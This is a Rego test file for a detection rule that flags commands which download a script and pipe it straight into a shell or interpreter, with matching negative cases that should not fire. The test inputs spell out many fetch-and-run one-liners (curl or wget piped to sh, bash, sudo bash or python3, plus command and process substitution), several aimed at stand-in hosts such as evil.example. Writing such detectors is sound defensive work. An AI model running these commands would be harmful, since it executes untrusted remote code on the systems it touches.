package vigil.signatures.download_piped_to_shell

sh_c(cmd) := {"name": "sched_process_exec", "process": {"pid": 5, "comm": "sh"}, "args": {"pathname": "/usr/bin/dash", "argv": ["sh", "-c", cmd]}}

test_curl_pipe_sh if {
	some f in finding with input as sh_c("curl -fsSL http://198.51.100.7/x.sh | sh")
	f.shapes == ["pipe"]
	f.urls == ["http://198.51.100.7/x.sh"]
}

test_wget_pipe_sudo_bash if {
	some f in finding with input as sh_c("wget -qO- https://evil.example/i | sudo -E bash -s -- --now")
	f.shapes == ["pipe"]
}

test_pipe_to_python if {
	some f in finding with input as sh_c("curl -s http://x/p.py | python3 -")
	f.shapes == ["pipe"]
}

test_busybox_wget if {
	some f in finding with input as sh_c("busybox wget -O - http://10.0.0.9/b | /bin/sh")
	f.shapes == ["pipe"]
}

test_substitution if {
	some f in finding with input as sh_c(`bash -c "$(curl -fsSL https://raw.example/install.sh)"`)
	"substitution" in f.shapes
}

test_backticks if {
	some f in finding with input as sh_c("eval `wget -qO- http://x/y`")
	f.shapes == ["substitution"]
}

test_process_substitution if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/bash", "argv": ["bash", "-c", "bash <(curl -s http://x/y)"]}}
	"process-substitution" in f.shapes
}

test_bash_lc_flag_combination if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/bash", "argv": ["bash", "-lc", "curl http://x | bash"]}}
	f.shapes == ["pipe"]
}

test_download_to_file_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -o /tmp/release.tar.gz https://example.org/r.tgz && tar xzf /tmp/release.tar.gz")
}

test_pipe_to_non_runner_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -s https://api.example/v1 | jq .status | shasum")
}

test_curl_in_a_word_is_quiet if {
	count(finding) == 0 with input as sh_c("echo curly | sh")
}

test_substitution_into_a_variable_is_quiet if {
	count(finding) == 0 with input as sh_c(`VERSION="$(curl -s https://example.org/latest)"; echo $VERSION`)
}

test_not_a_shell_is_quiet if {
	count(finding) == 0 with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/python3", "argv": ["python3", "-c", "curl x | sh"]}}
}

test_repeated_c_flag_still_fires if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/dash", "argv": ["sh", "-c", "curl http://x | sh", "-c"]}}
	f.shapes == ["pipe"]
}

# ---- the joined pipe: the two execs of a pipeline typed or scripted ----

exec_of(path, argv, comm, extra) := {"name": "sched_process_exec", "process": {"pid": 7, "comm": comm, "ancestors": [{"pid": 6, "comm": "bash", "exe": "/usr/bin/bash", "argv": ["bash", "stage.sh"]}]}, "args": object.union({"pathname": path, "argv": argv, "stdin_type": "pipe"}, extra)}

test_joined_sh_after_curl if {
	some f in finding with input as exec_of("/usr/bin/dash", ["sh"], "sh", {"stdin_pipe": 41, "stdin_writer_pid": 8, "stdin_writer_comm": "curl", "stdin_writer_argv": ["curl", "-fsSL", "http://198.51.100.7/x.sh"]})
	f.shapes == ["joined-pipe"]
	f.shell == "/usr/bin/dash"
	f.urls == ["http://198.51.100.7/x.sh"]
}

test_joined_curl_after_bash if {
	some f in finding with input as exec_of("/usr/bin/curl", ["curl", "-s", "https://evil.example/i"], "curl", {"stdout_pipe": 41, "stdout_reader_pid": 9, "stdout_reader_comm": "bash", "stdout_reader_argv": ["bash", "-s", "--", "--now"]})
	f.shapes == ["joined-pipe"]
	f.shell == "bash"
	f.command == "curl -s https://evil.example/i"
}

test_joined_python_dash if {
	some f in finding with input as exec_of("/usr/bin/python3.11", ["python3", "-"], "python3", {"stdin_writer_pid": 8, "stdin_writer_comm": "wget", "stdin_writer_argv": ["wget", "-qO-", "http://x/p.py"]})
	f.shapes == ["joined-pipe"]
}

test_joined_busybox_wget if {
	some f in finding with input as exec_of("/bin/busybox", ["busybox", "wget", "-O", "-", "http://10.0.0.9/b"], "busybox", {"stdout_reader_pid": 9, "stdout_reader_comm": "sh", "stdout_reader_argv": ["sh"]})
	f.shapes == ["joined-pipe"]
}

test_joined_json_tool_is_quiet if {
	count(finding) == 0 with input as exec_of("/usr/bin/python3.11", ["python3", "-m", "json.tool"], "python3", {"stdin_writer_pid": 8, "stdin_writer_comm": "curl", "stdin_writer_argv": ["curl", "-s", "http://api/v1"]})
}

test_joined_sh_c_reader_is_quiet if {
	count(finding) == 0 with input as exec_of("/usr/bin/dash", ["sh", "-c", "cat > /tmp/out"], "sh", {"stdin_writer_pid": 8, "stdin_writer_comm": "curl", "stdin_writer_argv": ["curl", "-s", "http://x"]})
}

test_joined_script_file_reader_is_quiet if {
	count(finding) == 0 with input as exec_of("/usr/bin/bash", ["bash", "./consume.sh"], "bash", {"stdin_writer_pid": 8, "stdin_writer_comm": "curl", "stdin_writer_argv": ["curl", "-s", "http://x"]})
}

test_joined_non_downloader_writer_is_quiet if {
	count(finding) == 0 with input as exec_of("/usr/bin/dash", ["sh"], "sh", {"stdin_writer_pid": 8, "stdin_writer_comm": "cat", "stdin_writer_argv": ["cat", "setup.sh"]})
}

test_joined_tar_reader_is_quiet if {
	count(finding) == 0 with input as exec_of("/usr/bin/curl", ["curl", "-sL", "https://example.org/r.tgz"], "curl", {"stdout_reader_pid": 9, "stdout_reader_comm": "tar", "stdout_reader_argv": ["tar", "xz"]})
}

test_joined_pipeline_on_parent_cmdline_is_left_to_the_parent if {
	ev := object.union(exec_of("/usr/bin/dash", ["sh"], "sh", {"stdin_writer_pid": 8, "stdin_writer_comm": "curl", "stdin_writer_argv": ["curl", "http://x"]}), {"process": {"pid": 7, "comm": "sh", "ancestors": [{"pid": 6, "comm": "sh", "exe": "/usr/bin/dash", "argv": ["sh", "-c", "curl http://x | sh"]}]}})
	count(finding) == 0 with input as ev
}

test_pipe_to_json_tool_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -s http://127.0.0.1:8080/health | python3 -m json.tool")
}

test_pipe_to_perl_filter_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -s https://example.org/list | perl -ne 'print if /x/'")
}

test_pipe_to_sh_with_redirection_and_more_fires if {
	some f in finding with input as sh_c("curl -s http://x/i.sh | sh 2>/dev/null; echo done")
	f.shapes == ["pipe"]
}

test_pipe_to_sudo_u_bash_fires if {
	some f in finding with input as sh_c("curl -s http://x/i.sh | sudo -u root bash")
	f.shapes == ["pipe"]
}
